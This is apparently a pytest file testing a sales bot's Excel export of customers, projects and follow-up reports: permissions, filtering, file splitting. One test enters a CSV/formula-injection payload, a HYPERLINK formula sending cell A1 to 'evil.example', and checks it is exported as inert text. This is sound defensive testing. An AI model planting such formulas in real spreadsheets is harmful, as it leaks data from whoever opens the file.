"""导出: what one sees, as Excel files."""

from __future__ import annotations

import asyncio
from functools import partial
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Connection, select

from bot.process.jobs import KINDS
from notifications.jobs.export_customers import export_customers
from notifications.jobs.working import Runner
from storage.files.store import FileStore
from storage.tables.jobs import jobs
from tests.cast import Person, Scene

STAR, LIGHT = "深圳市星河联创电子有限公司", "佛山市启明电机有限公司"


@pytest.fixture
async def with_project(li: Person, chen: Person) -> None:
    """李明 holds 星河; its first report told of a project in 研发."""
    await li.reports(STAR)
    await chen.approves(STAR)
    await li.follows_up("星河", "客户立项空调主控")
    await li.adds_project("变频空调主控", "空调", "BAT32G135", "研发", "样片已寄出", "5万", "打样", "2027-03")
    await li.taps("提交")
    await li.goes_home()


async def test_what_one_sees_comes_as_an_excel_file(
    with_project: None, scene: Scene, li: Person, zhou: Person, wang: Person
) -> None:
    await wang.taps("我的客户")
    wang.sees_not("[导出 Excel]")
    await zhou.taps("我的客户")
    await zhou.taps("导出 Excel")
    (book,) = await exported(scene)
    customers, projects, reports, items = book.worksheets
    assert [cell.value for cell in customers[2]][:4] == [STAR, None, "广东 深圳", "家电 · 空调"]
    assert [cell.value for cell in projects[2]][:5] == [STAR, "变频空调主控", "家电 · 空调", "BAT32G135", "研发"]
    assert [reports["B2"].value, reports["D2"].value, reports["F2"].value] == [
        "GJ-2026-00001",
        "李明",
        "客户立项空调主控",
    ]
    assert items.max_row == 2


async def test_an_export_holds_what_the_list_was_narrowed_to(
    with_project: None, scene: Scene, li: Person, chen: Person
) -> None:
    await li.reports(LIGHT)
    await chen.approves(LIGHT)
    await li.goes_home()
    await li.says("qiming")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    customers, projects, *_ = book.worksheets
    assert [row[0].value for row in customers.iter_rows(min_row=2)] == [LIGHT]
    assert projects.max_row == 1


async def test_what_somebody_wrote_becomes_no_formula_in_an_export(
    with_project: None, scene: Scene, li: Person
) -> None:
    await li.follows_up("星河", '=HYPERLINK("http://evil.example/?"&A1,"点我")')
    await li.finishes()
    await li.taps("提交")
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    (book,) = await exported(scene)
    cell = book.worksheets[2]["F3"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "s")


async def test_a_large_export_comes_in_several_files_of_whole_customers(
    with_project: None, scene: Scene, li: Person, chen: Person
) -> None:
    await li.reports(LIGHT)
    await chen.approves(LIGHT)
    workers = scene.bot.workers
    assert isinstance(workers, Runner)
    workers._kinds = {**KINDS, "export_customers": partial(export_customers, most=1)}
    await li.goes_home()
    await li.taps("我的客户")
    await li.taps("导出 Excel")
    books = await exported(scene)
    found = [[row[0].value for row in book.worksheets[0].iter_rows(min_row=2)] for book in books]
    assert found == [[STAR], [LIGHT]]
    assert [book.worksheets[2].max_row for book in books] == [2, 1]
    await scene.settled()
    named = [each.content["document"]["file_name"] for each in li.phone.from_bot if "document" in each.content]
    assert named == ["客户与跟进 1-2.xlsx", "客户与跟进 2-2.xlsx"]


async def exported(scene: Scene) -> list[Workbook]:
    """The files that the export makes, once they are made."""

    def result(conn: Connection) -> list[str]:
        found = conn.execute(select(jobs.c.result).where(jobs.c.state == "done")).scalars().first()
        return [file["sha256"] for file in found["files"]] if found else []

    store = FileStore(scene.bot.settings.data / "files")
    for _ in range(300):
        if made := await scene.db.read(result):
            return [load_workbook(BytesIO(store.path(each).read_bytes())) for each in made]
        await asyncio.sleep(0.1)
    raise AssertionError("no export was done")
